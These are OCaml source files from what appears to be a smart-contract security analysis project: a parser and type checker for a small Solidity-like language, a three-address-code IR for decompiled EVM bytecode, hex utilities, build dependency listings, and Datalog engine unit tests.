  | L.TNum v ->
      advance st;
      Num v
  | L.TKw "true" ->
      advance st;
      BoolLit true
  | L.TKw "false" ->
      advance st;
      BoolLit false
  | L.TKw "msg" ->
      advance st;
      expect_punct st ".";
      if accept_kw st "sender" then Sender
      else if accept_kw st "value" then Value
      else err st "expected msg.sender or msg.value"
  | L.TKw "tx" ->
      advance st;
      expect_punct st ".";
      expect_kw st "origin";
      Origin
  | L.TKw "this" ->
      advance st;
      if accept_punct st "." then
        if accept_kw st "balance" then SelfBalance
        else begin
          (* this.f(args): external-style self call, treated internal *)
          let f = ident st in
          expect_punct st "(";
          let args = parse_args st in
          CallFn (f, args)
        end
      else This
  | L.TKw "keccak256" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      KeccakOf e
  | L.TKw "assembly_sload" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      RawSload e
  | L.TKw ("address" | "uint256" | "uint") ->
      (* address(e) / uint256(e) casts are identity in MiniSol: all
         values are 256-bit words *)
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      e
  | L.TPunct "(" ->
      advance st;
      let e = parse_expr st in
      expect_punct st ")";
      e
  | L.TIdent x ->
      advance st;
      if accept_punct st "(" then CallFn (x, parse_args st) else Var x
  (* soft keywords usable as plain identifiers *)
  | L.TKw (("sender" | "value" | "origin" | "balance") as x) ->
      advance st;
      if accept_punct st "(" then CallFn (x, parse_args st) else Var x
  | _ -> err st "expected expression"

(* ---------------- statements ---------------- *)

let rec expr_to_lvalue st (e : expr) : lvalue =
  match e with
  | Var x -> LVar x
  | Index (b, k) -> LIndex (expr_to_lvalue st b, k)
  | _ -> err st "invalid assignment target"

let rec parse_block st : block =
  expect_punct st "{";
  let rec go acc =
    if accept_punct st "}" then List.rev acc else go (parse_stmt st :: acc)
  in
  go []

and parse_stmt st : stmt =
  match (peek st).L.tok with
  | L.TKw ("uint256" | "uint" | "address" | "bool") ->
      let ty = parse_type st in
      ignore (accept_kw st "memory");
      let x = ident st in
      expect_punct st "=";
      let e = parse_expr st in
      expect_punct st ";";
      SLet (x, ty, e)
  | L.TKw "if" ->
      advance st;
      expect_punct st "(";
      let c = parse_expr st in
      expect_punct st ")";
      let thn = parse_block st in
      let els = if accept_kw st "else" then parse_block st else [] in
      SIf (c, thn, els)
  | L.TKw "while" ->
      advance st;
      expect_punct st "(";
      let c = parse_expr st in
      expect_punct st ")";
      SWhile (c, parse_block st)
  | L.TKw "require" ->
      advance st;
      expect_punct st "(";
      let c = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SRequire c
  | L.TKw "return" ->
      advance st;
      if accept_punct st ";" then SReturn None
      else begin
        let e = parse_expr st in
        expect_punct st ";";
        SReturn (Some e)
      end
  | L.TKw "selfdestruct" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SSelfdestruct e
  | L.TKw "delegatecall" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SDelegatecall e
  | L.TKw "staticcall_checked" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SStaticcall { target = e; checked = true }
  | L.TKw "staticcall_unchecked" ->
      advance st;
      expect_punct st "(";
      let e = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SStaticcall { target = e; checked = false }
  | L.TKw "call_value" ->
      advance st;
      expect_punct st "(";
      let target = parse_expr st in
      expect_punct st ",";
      let v = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SCallExt (target, v)
  | L.TKw "log_event" ->
      advance st;
      expect_punct st "(";
      let topic = parse_expr st in
      expect_punct st ",";
      let v = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SLogEvent (topic, v)
  | L.TKw "assembly_sstore" ->
      advance st;
      expect_punct st "(";
      let slot = parse_expr st in
      expect_punct st ",";
      let v = parse_expr st in
      expect_punct st ")";
      expect_punct st ";";
      SRawSstore (slot, v)
  | L.TIdent "_" ->
      advance st;
      expect_punct st ";";
      SPlaceholder
  | _ ->
      let e = parse_expr st in
      if accept_punct st "=" then begin
        let lv = expr_to_lvalue st e in
        let rhs = parse_expr st in
        expect_punct st ";";
        SAssign (lv, rhs)
      end
      else if accept_punct st "+=" then begin
        let lv = expr_to_lvalue st e in
        let rhs = parse_expr st in
        expect_punct st ";";
        SAssign (lv, Bin (Add, e, rhs))
      end
      else if accept_punct st "-=" then begin
        let lv = expr_to_lvalue st e in
        let rhs = parse_expr st in
        expect_punct st ";";
        SAssign (lv, Bin (Sub, e, rhs))
      end
      else begin
        expect_punct st ";";
        SExpr e
      end

(* ---------------- declarations ---------------- *)

let parse_params st : (string * ty) list =
  expect_punct st "(";
  if accept_punct st ")" then []
  else begin
    let rec go acc =
      let ty = parse_type st in
      ignore (accept_kw st "memory");
      let x = ident st in
      if accept_punct st "," then go ((x, ty) :: acc)
      else begin
        expect_punct st ")";
        List.rev ((x, ty) :: acc)
      end
    in
    go []
  end

let parse_function st : func =
  expect_kw st "function";
  let fname = ident st in
  let params = parse_params st in
  (* attribute soup: visibility, mutability, modifiers *)
  let vis = ref Public in
  let mods = ref [] in
  let ret = ref None in
  let rec attrs () =
    match (peek st).L.tok with
    | L.TKw "public" | L.TKw "external" ->
        advance st;
        vis := Public;
        attrs ()
    | L.TKw "private" | L.TKw "internal" ->
        advance st;
        vis := Private;
        attrs ()
    | L.TKw ("payable" | "view") ->
        advance st;
        attrs ()
    | L.TKw "returns" ->
        advance st;
        expect_punct st "(";
        ret := Some (parse_type st);
        (* tolerate a name for the return value *)
        (match (peek st).L.tok with
        | L.TIdent _ -> ignore (ident st)
        | _ -> ());
        expect_punct st ")";
        attrs ()
    | L.TIdent m ->
        advance st;
        (* modifier, possibly with empty arg list *)
        if accept_punct st "(" then expect_punct st ")";
        mods := m :: !mods;
        attrs ()
    | _ -> ()
  in
  attrs ();
  let body = parse_block st in
  { fname; params; ret = !ret; vis = !vis; mods = List.rev !mods; body }

let parse_contract_body st cname : contract =
  let state_vars = ref [] in
  let modifiers = ref [] in
  let funcs = ref [] in
  let ctor = ref None in
  expect_punct st "{";
  let rec go () =
    if accept_punct st "}" then ()
    else begin
      (match (peek st).L.tok with
      | L.TKw "modifier" ->
          advance st;
          let mname = ident st in
          if accept_punct st "(" then expect_punct st ")";
          let mbody = parse_block st in
          modifiers := { mname; mbody } :: !modifiers
      | L.TKw "constructor" ->
          advance st;
          expect_punct st "(";
          expect_punct st ")";
          ignore (accept_kw st "public");
          ignore (accept_kw st "payable");
          ctor := Some (parse_block st)
      | L.TKw "function" -> funcs := parse_function st :: !funcs
      | L.TKw ("uint256" | "uint" | "address" | "bool" | "mapping") ->
          let ty = parse_type st in
          ignore (accept_kw st "public");
          ignore (accept_kw st "private");
          let x = ident st in
          (* tolerate "= <literal>" initializers on declarations *)
          if accept_punct st "=" then ignore (parse_expr st);
          expect_punct st ";";
          state_vars := (x, ty) :: !state_vars
      | _ -> err st "expected contract member");
      go ()
    end
  in
  go ();
  { cname; state_vars = List.rev !state_vars;
    modifiers = List.rev !modifiers; ctor = !ctor;
    funcs = List.rev !funcs }

let parse_contract_toks st : contract =
  expect_kw st "contract";
  let cname = ident st in
  parse_contract_body st cname

(** Parse a single MiniSol contract from source text. *)
let parse (src : string) : contract =
  let st = { toks = Lexer.tokenize src } in
  let c = parse_contract_toks st in
  (match (peek st).L.tok with
  | L.TEOF -> ()
  | _ -> err st "trailing input after contract");
  c
