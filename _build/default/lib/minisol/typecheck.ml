(** Semantic checks for MiniSol contracts.

    Verifies name resolution (state variables, locals, parameters,
    functions, modifiers), mapping index well-formedness, call arities,
    absence of recursion (the codegen allocates locals statically, so
    the call graph must be acyclic), and placeholder discipline
    (exactly one [_;] per modifier, none elsewhere). *)

open Ast

exception Type_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Type_error s)) fmt

type env = {
  contract : contract;
  mutable locals : (string * ty) list;
  in_modifier : bool;
}

let state_var_ty (c : contract) x =
  List.assoc_opt x c.state_vars

let rec check_expr (env : env) (e : expr) : ty =
  match e with
  | Num _ -> TUint
  | BoolLit _ -> TBool
  | Sender | Origin | This -> TAddress
  | Value | SelfBalance -> TUint
  | KeccakOf e ->
      ignore (check_expr env e);
      TUint
  | RawSload e ->
      ignore (check_expr env e);
      TUint
  | Var x -> (
      match List.assoc_opt x env.locals with
      | Some t -> t
      | None -> (
          match state_var_ty env.contract x with
          | Some t -> t
          | None -> fail "unbound variable %s" x))
  | Index (base, key) -> (
      let bt = check_expr env base in
      let kt = check_expr env key in
      match bt with
      | TMapping (k, v) ->
          if k <> kt && not (k = TUint && kt = TAddress)
             && not (k = TAddress && kt = TUint) then
            fail "mapping key type mismatch: expected %s, got %s"
              (ty_to_string k) (ty_to_string kt);
          v
      | t -> fail "indexing a non-mapping of type %s" (ty_to_string t))
  | Not e ->
      let t = check_expr env e in
      if t <> TBool then fail "! applied to %s" (ty_to_string t);
      TBool
  | Bin (op, a, b) -> (
      let ta = check_expr env a in
      let tb = check_expr env b in
      match op with
      | Add | Sub | Mul | Div | Mod ->
          if ta = TBool || tb = TBool then fail "arithmetic on bool";
          TUint
      | Lt | Gt | Le | Ge ->
          if ta = TBool || tb = TBool then fail "comparison on bool";
          TBool
      | Eq | Neq -> TBool
      | And | Or ->
          if ta <> TBool || tb <> TBool then fail "&&/|| on non-bool";
          TBool)
  | CallFn (f, args) -> (
      match find_func env.contract f with
      | None -> fail "call to undefined function %s" f
      | Some fn ->
          if List.length args <> List.length fn.params then
            fail "function %s expects %d arguments, got %d" f
              (List.length fn.params) (List.length args);
          List.iter (fun a -> ignore (check_expr env a)) args;
          (match fn.ret with
          | Some t -> t
          | None -> fail "function %s has no return value" f))

let rec check_lvalue env (lv : lvalue) : ty =
  match lv with
  | LVar x -> (
      match List.assoc_opt x env.locals with
      | Some t -> t
      | None -> (
          match state_var_ty env.contract x with
          | Some t -> t
          | None -> fail "assignment to unbound variable %s" x))
  | LIndex (base, key) -> (
      let bt = check_lvalue env base in
      ignore (check_expr env key);
      match bt with
      | TMapping (_, v) -> v
      | t -> fail "indexing a non-mapping lvalue of type %s" (ty_to_string t))

let rec check_stmt env (s : stmt) : unit =
  match s with
  | SLet (x, ty, e) ->
      if List.mem_assoc x env.locals then fail "shadowed local %s" x;
      ignore (check_expr env e);
      env.locals <- (x, ty) :: env.locals
  | SAssign (lv, e) ->
      let lt = check_lvalue env lv in
      (match lt with
      | TMapping _ -> fail "cannot assign whole mapping"
      | _ -> ());
      ignore (check_expr env e)
  | SIf (c, thn, els) ->
      ignore (check_expr env c);
      List.iter (check_stmt env) thn;
      List.iter (check_stmt env) els
  | SWhile (c, body) ->
      ignore (check_expr env c);
      List.iter (check_stmt env) body
  | SRequire c -> ignore (check_expr env c)
  | SReturn None -> ()
  | SReturn (Some e) -> ignore (check_expr env e)
  | SExpr e -> ignore (check_expr env e)
  | SSelfdestruct e | SDelegatecall e -> ignore (check_expr env e)
  | SStaticcall { target; _ } -> ignore (check_expr env target)
  | SCallExt (t, v) ->
      ignore (check_expr env t);
      ignore (check_expr env v)
  | SRawSstore (slot, v) | SLogEvent (slot, v) ->
      ignore (check_expr env slot);
      ignore (check_expr env v)
  | SPlaceholder ->
      if not env.in_modifier then fail "placeholder _; outside modifier"

let count_placeholders (b : block) : int =
  let rec go acc = function
    | [] -> acc
    | SPlaceholder :: r -> go (acc + 1) r
    | SIf (_, t, e) :: r -> go (go (go acc t) e) r
    | SWhile (_, b) :: r -> go (go acc b) r
    | _ :: r -> go acc r
  in
  go 0 b

(* Detect recursion through the static call graph. *)
let check_no_recursion (c : contract) =
  let rec calls_of_expr acc = function
    | CallFn (f, args) -> List.fold_left calls_of_expr (f :: acc) args
    | Bin (_, a, b) -> calls_of_expr (calls_of_expr acc a) b
    | Not e | KeccakOf e | RawSload e -> calls_of_expr acc e
    | Index (a, b) -> calls_of_expr (calls_of_expr acc a) b
    | _ -> acc
  in
  let rec calls_of_stmt acc = function
    | SLet (_, _, e) | SRequire e | SExpr e | SSelfdestruct e
    | SDelegatecall e | SReturn (Some e) ->
        calls_of_expr acc e
    | SStaticcall { target; _ } -> calls_of_expr acc target
    | SAssign (lv, e) ->
        let rec lv_calls acc = function
          | LVar _ -> acc
          | LIndex (b, k) -> lv_calls (calls_of_expr acc k) b
        in
        lv_calls (calls_of_expr acc e) lv
    | SCallExt (a, b) | SRawSstore (a, b) | SLogEvent (a, b) ->
        calls_of_expr (calls_of_expr acc a) b
    | SIf (c, t, e) ->
        let acc = calls_of_expr acc c in
        let acc = List.fold_left calls_of_stmt acc t in
        List.fold_left calls_of_stmt acc e
    | SWhile (c, b) ->
        List.fold_left calls_of_stmt (calls_of_expr acc c) b
    | SReturn None | SPlaceholder -> acc
  in
  let edges f = List.fold_left calls_of_stmt [] f.body in
  let visiting = Hashtbl.create 8 and done_ = Hashtbl.create 8 in
  let rec dfs fname =
    if Hashtbl.mem done_ fname then ()
    else if Hashtbl.mem visiting fname then
      fail "recursive call cycle through %s (unsupported)" fname
    else begin
      Hashtbl.replace visiting fname ();
      (match find_func c fname with
      | None -> ()
      | Some f -> List.iter dfs (edges f));
      Hashtbl.remove visiting fname;
      Hashtbl.replace done_ fname ()
    end
  in
  List.iter (fun f -> dfs f.fname) c.funcs

(** Check a whole contract; raises {!Type_error} on failure. *)
let check (c : contract) : unit =
  (* duplicate names *)
  let seen = Hashtbl.create 16 in
  List.iter
    (fun (x, _) ->
      if Hashtbl.mem seen x then fail "duplicate state variable %s" x;
      Hashtbl.replace seen x ())
    c.state_vars;
  let seenf = Hashtbl.create 16 in
  List.iter
    (fun f ->
      if Hashtbl.mem seenf f.fname then fail "duplicate function %s" f.fname;
      Hashtbl.replace seenf f.fname ())
    c.funcs;
  (* modifiers: exist, have exactly one placeholder *)
  List.iter
    (fun m ->
      if count_placeholders m.mbody <> 1 then
        fail "modifier %s must contain exactly one _;" m.mname;
      let env = { contract = c; locals = []; in_modifier = true } in
      List.iter (check_stmt env) m.mbody)
    c.modifiers;
  (* functions *)
  List.iter
    (fun f ->
      List.iter
        (fun m ->
          if find_modifier c m = None then
            fail "function %s uses undefined modifier %s" f.fname m)
        f.mods;
      let env = { contract = c; locals = f.params; in_modifier = false } in
      List.iter (check_stmt env) f.body)
    c.funcs;
  (* constructor *)
  (match c.ctor with
  | None -> ()
  | Some b ->
      let env = { contract = c; locals = []; in_modifier = false } in
      List.iter (check_stmt env) b);
  check_no_recursion c
