lib/tac/decomp.ml: Array Ethainter_evm Ethainter_word Hashtbl List String Tac VarSet
