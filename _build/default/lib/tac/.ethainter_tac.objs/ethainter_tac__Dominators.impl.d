lib/tac/dominators.ml: Array Hashtbl List Tac
