lib/tac/tac.ml: Ethainter_evm Ethainter_word Format Hashtbl List Map Printf Set String
