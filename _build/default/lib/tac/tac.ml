(** Three-address-code IR produced by decompiling EVM bytecode.

    This is our stand-in for the Gigahorse decompiler's "functional
    3-address code representation of an EVM bytecode program" (§5): the
    input language of the Datalog-level analysis. Stack juggling
    ([PUSH]/[DUP]/[SWAP]/[POP]) disappears; every remaining operation
    defines at most one variable; block-boundary stack merges become
    phi variables. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode

(** Variables are value names, SSA-like by construction: a [Vdef] is
    the unique result of the instruction at a bytecode offset, a [Vphi]
    merges incoming stack entries at a block boundary, a [Vunk] stands
    for a stack entry below the statically-known portion of the entry
    stack. *)
type var =
  | Vdef of int          (** result of instruction at this pc *)
  | Vphi of int * int    (** (block entry pc, stack position) *)
  | Vunk of int * int    (** unknown entry-stack slot (block, depth) *)

let var_to_string = function
  | Vdef pc -> Printf.sprintf "v%d" pc
  | Vphi (b, i) -> Printf.sprintf "phi%d_%d" b i
  | Vunk (b, i) -> Printf.sprintf "unk%d_%d" b i

module VarSet = Set.Make (struct
  type t = var
  let compare = compare
end)

module VarMap = Map.Make (struct
  type t = var
  let compare = compare
end)

(** TAC operations: real EVM opcodes (minus stack manipulation),
    constants, and phis. *)
type top =
  | TOp of Op.t
  | TConst of U.t
  | TPhi

type stmt = {
  s_pc : int;            (** bytecode offset *)
  s_block : int;         (** entry pc of the containing block *)
  s_op : top;
  s_args : var list;     (** operands in EVM pop order *)
  s_res : var option;
  s_sha3_args : var list option;
      (** for SHA3: the variables whose concatenation is hashed, when
          the memory region could be resolved (scratch-space hashing of
          mapping keys); [None] when unresolved *)
}

type block = {
  b_entry : int;
  b_stmts : stmt list;
  b_succs : int list;
  b_preds : int list;
}

type program = {
  p_blocks : (int, block) Hashtbl.t;
  p_entry : int;
  p_def : (var, stmt) Hashtbl.t;           (** defining statement *)
  p_consts : (var, U.t list) Hashtbl.t;    (** possible constant values
                                               (bounded set; singleton =
                                               proper constant) *)
  p_phi_args : (var, VarSet.t) Hashtbl.t;  (** phi var -> merged vars *)
  p_orphans : (int, unit) Hashtbl.t;
      (** blocks decompiled speculatively, with no path from the entry
          (no public entry point reaches them) *)
  p_code_size : int;
}

let is_orphan_block p e = Hashtbl.mem p.p_orphans e

let blocks p = Hashtbl.fold (fun _ b acc -> b :: acc) p.p_blocks []

let block p entry = Hashtbl.find_opt p.p_blocks entry

let stmts p =
  blocks p |> List.concat_map (fun b -> b.b_stmts)

let def p v = Hashtbl.find_opt p.p_def v

(** The single constant value of [v], if it has exactly one. *)
let const_of p v =
  match Hashtbl.find_opt p.p_consts v with
  | Some [ c ] -> Some c
  | _ -> None

(** All possible constant values known for [v] (empty = none known). *)
let const_set p v =
  match Hashtbl.find_opt p.p_consts v with Some l -> l | None -> []

let phi_args p v =
  match Hashtbl.find_opt p.p_phi_args v with
  | Some s -> VarSet.elements s
  | None -> []

let op_name = function
  | TOp o -> Op.name o
  | TConst _ -> "CONST"
  | TPhi -> "PHI"

let pp_stmt fmt (s : stmt) =
  let res = match s.s_res with
    | Some v -> var_to_string v ^ " = "
    | None -> "" in
  let args = String.concat ", " (List.map var_to_string s.s_args) in
  match s.s_op with
  | TConst c ->
      Format.fprintf fmt "%4d: %s%s" s.s_pc res (U.to_hex c)
  | _ -> Format.fprintf fmt "%4d: %s%s(%s)" s.s_pc res (op_name s.s_op) args

let pp_program fmt (p : program) =
  let bs = blocks p |> List.sort (fun a b -> compare a.b_entry b.b_entry) in
  List.iter
    (fun b ->
      Format.fprintf fmt "block %d  (succs: %s)@."
        b.b_entry
        (String.concat "," (List.map string_of_int b.b_succs));
      List.iter (fun s -> Format.fprintf fmt "  %a@." pp_stmt s) b.b_stmts)
    bs

let to_string p = Format.asprintf "%a" pp_program p

(** Count of three-address statements — the paper reports corpus size
    in "lines of 3-address code". *)
let loc p = List.length (stmts p)
