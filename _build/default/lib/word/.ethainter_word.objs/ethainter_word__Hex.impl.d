lib/word/hex.ml: Buffer Char Printf String
