lib/word/hex.mli:
