lib/word/uint256.mli: Format
