(** Hex string <-> raw byte string conversions used throughout the
    EVM toolchain (bytecode files, calldata, addresses). *)

let digit_val c =
  match c with
  | '0' .. '9' -> Char.code c - Char.code '0'
  | 'a' .. 'f' -> Char.code c - Char.code 'a' + 10
  | 'A' .. 'F' -> Char.code c - Char.code 'A' + 10
  | _ -> invalid_arg (Printf.sprintf "Hex.decode: bad digit %C" c)

let strip_prefix s =
  if String.length s >= 2 && s.[0] = '0' && (s.[1] = 'x' || s.[1] = 'X') then
    String.sub s 2 (String.length s - 2)
  else s

(** Decode a hex string (with or without [0x] prefix, whitespace
    tolerated) into raw bytes. *)
let decode s =
  let s = strip_prefix s in
  let buf = Buffer.create (String.length s / 2) in
  let pending = ref (-1) in
  String.iter
    (fun c ->
      match c with
      | ' ' | '\n' | '\t' | '\r' -> ()
      | _ ->
          let v = digit_val c in
          if !pending < 0 then pending := v
          else begin
            Buffer.add_char buf (Char.chr ((!pending lsl 4) lor v));
            pending := -1
          end)
    s;
  if !pending >= 0 then invalid_arg "Hex.decode: odd number of digits";
  Buffer.contents buf

(** Encode raw bytes as a lowercase hex string without prefix. *)
let encode s =
  let buf = Buffer.create (String.length s * 2) in
  String.iter (fun c -> Buffer.add_string buf (Printf.sprintf "%02x" (Char.code c))) s;
  Buffer.contents buf

let encode0x s = "0x" ^ encode s
