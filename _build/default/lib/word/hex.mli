(** Hex string <-> raw byte string conversions used throughout the EVM
    toolchain (bytecode files, calldata, addresses). *)

val decode : string -> string
(** Decode hex (with or without [0x] prefix; whitespace tolerated) into
    raw bytes.
    @raise Invalid_argument on bad digits or odd length. *)

val encode : string -> string
(** Lowercase hex, no prefix. *)

val encode0x : string -> string
(** Lowercase hex with a [0x] prefix. *)

val strip_prefix : string -> string
val digit_val : char -> int
