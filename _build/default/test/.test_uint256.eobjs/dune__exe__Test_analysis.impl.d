test/test_analysis.ml: Alcotest Ethainter_core Ethainter_corpus Ethainter_minisol List String
