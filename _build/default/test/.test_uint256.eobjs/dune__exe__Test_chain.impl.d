test/test_chain.ml: Alcotest Ethainter_chain Ethainter_evm Ethainter_minisol Ethainter_word List Printf
