test/test_datalog.ml: Alcotest Ethainter_datalog Hashtbl List Printf QCheck QCheck_alcotest String
