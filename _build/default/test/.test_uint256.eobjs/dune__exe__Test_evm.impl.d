test/test_evm.ml: Alcotest Ethainter_crypto Ethainter_evm Ethainter_word Hashtbl List QCheck QCheck_alcotest String
