test/test_evm.mli:
