test/test_experiments.ml: Alcotest Ethainter_core Ethainter_experiments List Printf
