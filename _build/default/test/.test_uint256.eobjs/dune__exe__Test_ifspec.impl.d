test/test_ifspec.ml: Alcotest Ethainter_ifspec List
