test/test_ifspec.mli:
