test/test_keccak.ml: Alcotest Ethainter_crypto Ethainter_word Gen Hashtbl List Printf QCheck QCheck_alcotest String
