test/test_keccak.mli:
