test/test_kill.mli:
