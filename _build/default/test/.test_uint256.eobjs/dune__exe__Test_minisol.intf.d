test/test_minisol.mli:
