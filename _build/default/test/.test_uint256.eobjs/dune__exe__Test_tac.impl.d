test/test_tac.ml: Alcotest Ethainter_evm Ethainter_minisol Ethainter_tac Ethainter_word List Option Printf QCheck QCheck_alcotest
