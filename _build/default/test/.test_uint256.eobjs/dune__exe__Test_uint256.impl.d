test/test_uint256.ml: Alcotest Ethainter_word Int64 List QCheck QCheck_alcotest String
