test/test_uint256.mli:
