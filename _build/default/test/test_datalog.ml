(* Datalog engine tests: textbook programs (transitive closure,
   same-generation), stratified negation, errors, and a differential
   property against a reference reachability computation. *)

module D = Ethainter_datalog.Datalog

let sym = D.sym
let v = D.v

let edge_facts edges =
  ("edge", List.map (fun (a, b) -> [| D.Sym a; D.Sym b |]) edges)

let tc_program () =
  let p = D.create () in
  D.declare p "edge" 2;
  D.declare p "path" 2;
  D.add_rule p ("path", [ v "x"; v "y" ]) [ D.Pos ("edge", [ v "x"; v "y" ]) ];
  D.add_rule p
    ("path", [ v "x"; v "z" ])
    [ D.Pos ("path", [ v "x"; v "y" ]); D.Pos ("edge", [ v "y"; v "z" ]) ];
  p

let test_transitive_closure () =
  let p = tc_program () in
  let db = D.solve p [ edge_facts [ ("a", "b"); ("b", "c"); ("c", "d") ] ] in
  Alcotest.(check int) "path count" 6 (D.size db "path");
  Alcotest.(check bool) "a->d" true
    (D.mem db "path" [| D.Sym "a"; D.Sym "d" |]);
  Alcotest.(check bool) "no d->a" false
    (D.mem db "path" [| D.Sym "d"; D.Sym "a" |])

let test_cycle () =
  let p = tc_program () in
  let db = D.solve p [ edge_facts [ ("a", "b"); ("b", "a") ] ] in
  (* terminates on cycles; all 4 pairs derivable *)
  Alcotest.(check int) "cycle closure" 4 (D.size db "path")

let test_same_generation () =
  let p = D.create () in
  D.declare p "parent" 2;
  D.declare p "sg" 2;
  (* siblings *)
  D.add_rule p
    ("sg", [ v "x"; v "y" ])
    [ D.Pos ("parent", [ v "p"; v "x" ]); D.Pos ("parent", [ v "p"; v "y" ]) ];
  (* same generation via parents *)
  D.add_rule p
    ("sg", [ v "x"; v "y" ])
    [ D.Pos ("parent", [ v "px"; v "x" ]);
      D.Pos ("sg", [ v "px"; v "py" ]);
      D.Pos ("parent", [ v "py"; v "y" ]) ];
  let facts =
    [ ( "parent",
        [ [| D.Sym "root"; D.Sym "a" |]; [| D.Sym "root"; D.Sym "b" |];
          [| D.Sym "a"; D.Sym "a1" |]; [| D.Sym "b"; D.Sym "b1" |] ] ) ]
  in
  let db = D.solve p facts in
  Alcotest.(check bool) "cousins same generation" true
    (D.mem db "sg" [| D.Sym "a1"; D.Sym "b1" |]);
  Alcotest.(check bool) "different generations" false
    (D.mem db "sg" [| D.Sym "a"; D.Sym "b1" |])

let test_negation_stratified () =
  (* unreachable(x) :- node(x), !reach(x) *)
  let p = D.create () in
  D.declare p "edge" 2;
  D.declare p "node" 1;
  D.declare p "reach" 1;
  D.declare p "unreachable" 1;
  D.add_rule p ("reach", [ sym "start" ]) [];
  D.add_rule p
    ("reach", [ v "y" ])
    [ D.Pos ("reach", [ v "x" ]); D.Pos ("edge", [ v "x"; v "y" ]) ];
  D.add_rule p
    ("unreachable", [ v "x" ])
    [ D.Pos ("node", [ v "x" ]); D.Neg ("reach", [ v "x" ]) ];
  let db =
    D.solve p
      [ edge_facts [ ("start", "m"); ("m", "n") ];
        ("node",
         [ [| D.Sym "start" |]; [| D.Sym "m" |]; [| D.Sym "n" |];
           [| D.Sym "island" |] ]) ]
  in
  Alcotest.(check int) "one unreachable" 1 (D.size db "unreachable");
  Alcotest.(check bool) "island" true
    (D.mem db "unreachable" [| D.Sym "island" |])

let test_unstratifiable_rejected () =
  (* p(x) :- q(x), !p(x) — negation in a cycle *)
  let p = D.create () in
  D.declare p "q" 1;
  D.declare p "p" 1;
  D.add_rule p ("p", [ v "x" ])
    [ D.Pos ("q", [ v "x" ]); D.Neg ("p", [ v "x" ]) ];
  match D.solve p [ ("q", [ [| D.Sym "a" |] ]) ] with
  | exception D.Datalog_error _ -> ()
  | _ -> Alcotest.fail "unstratifiable program must be rejected"

let test_arity_checks () =
  let p = D.create () in
  D.declare p "r" 2;
  (match D.add_rule p ("r", [ v "x" ]) [] with
  | exception D.Datalog_error _ -> ()
  | _ -> Alcotest.fail "arity mismatch in head");
  match D.solve p [ ("r", [ [| D.Sym "a" |] ]) ] with
  | exception D.Datalog_error _ -> ()
  | _ -> Alcotest.fail "arity mismatch in facts"

let test_undeclared_rejected () =
  let p = D.create () in
  D.declare p "r" 1;
  match D.add_rule p ("r", [ v "x" ]) [ D.Pos ("nope", [ v "x" ]) ] with
  | exception D.Datalog_error _ -> ()
  | _ -> Alcotest.fail "undeclared relation must be rejected"

let test_filter_and_bind () =
  (* double(x, y) :- n(x), y := 2x, y < 10 *)
  let p = D.create () in
  D.declare p "n" 1;
  D.declare p "double" 2;
  D.add_rule p
    ("double", [ v "x"; v "y" ])
    [ D.Pos ("n", [ v "x" ]);
      D.Bind
        ( "y", [ "x" ],
          function [ D.Int i ] -> Some (D.Int (2 * i)) | _ -> None );
      D.Filter ([ "y" ], function [ D.Int y ] -> y < 10 | _ -> false) ];
  let db =
    D.solve p [ ("n", [ [| D.Int 2 |]; [| D.Int 3 |]; [| D.Int 7 |] ]) ]
  in
  Alcotest.(check int) "two pass the filter" 2 (D.size db "double");
  Alcotest.(check bool) "2 -> 4" true (D.mem db "double" [| D.Int 2; D.Int 4 |]);
  Alcotest.(check bool) "7 filtered out" false
    (D.mem db "double" [| D.Int 7; D.Int 14 |])

let test_constants_in_rules () =
  let p = tc_program () in
  D.declare p "from_a" 1;
  D.add_rule p ("from_a", [ v "y" ]) [ D.Pos ("path", [ sym "a"; v "y" ]) ];
  let db = D.solve p [ edge_facts [ ("a", "b"); ("b", "c"); ("z", "w") ] ] in
  Alcotest.(check int) "only a's targets" 2 (D.size db "from_a")

(* differential property: Datalog TC = reference DFS reachability on
   random graphs *)
let prop_tc_matches_dfs =
  let gen_edges =
    QCheck.Gen.(
      list_size (int_bound 30)
        (pair (int_bound 8) (int_bound 8)))
  in
  QCheck_alcotest.to_alcotest
    (QCheck.Test.make ~name:"TC matches DFS reachability" ~count:60
       (QCheck.make gen_edges ~print:(fun es ->
            String.concat ";"
              (List.map (fun (a, b) -> Printf.sprintf "%d->%d" a b) es)))
       (fun edges ->
         let name i = "n" ^ string_of_int i in
         let p = tc_program () in
         let db =
           D.solve p
             [ edge_facts (List.map (fun (a, b) -> (name a, name b)) edges) ]
         in
         (* reference: DFS from each node *)
         let adj = Hashtbl.create 16 in
         List.iter
           (fun (a, b) ->
             Hashtbl.replace adj a
               (b :: (try Hashtbl.find adj a with Not_found -> [])))
           edges;
         let reachable_from a =
           let seen = Hashtbl.create 8 in
           let rec dfs x =
             List.iter
               (fun y ->
                 if not (Hashtbl.mem seen y) then begin
                   Hashtbl.replace seen y ();
                   dfs y
                 end)
               (try Hashtbl.find adj x with Not_found -> [])
           in
           dfs a;
           seen
         in
         let nodes =
           List.sort_uniq compare
             (List.concat_map (fun (a, b) -> [ a; b ]) edges)
         in
         List.for_all
           (fun a ->
             let ref_set = reachable_from a in
             List.for_all
               (fun b ->
                 D.mem db "path" [| D.Sym (name a); D.Sym (name b) |]
                 = Hashtbl.mem ref_set b)
               nodes)
           nodes))

let () =
  Alcotest.run "datalog"
    [ ( "engine",
        [ Alcotest.test_case "transitive closure" `Quick
            test_transitive_closure;
          Alcotest.test_case "cycles terminate" `Quick test_cycle;
          Alcotest.test_case "same generation" `Quick test_same_generation;
          Alcotest.test_case "stratified negation" `Quick
            test_negation_stratified;
          Alcotest.test_case "unstratifiable rejected" `Quick
            test_unstratifiable_rejected;
          Alcotest.test_case "arity checks" `Quick test_arity_checks;
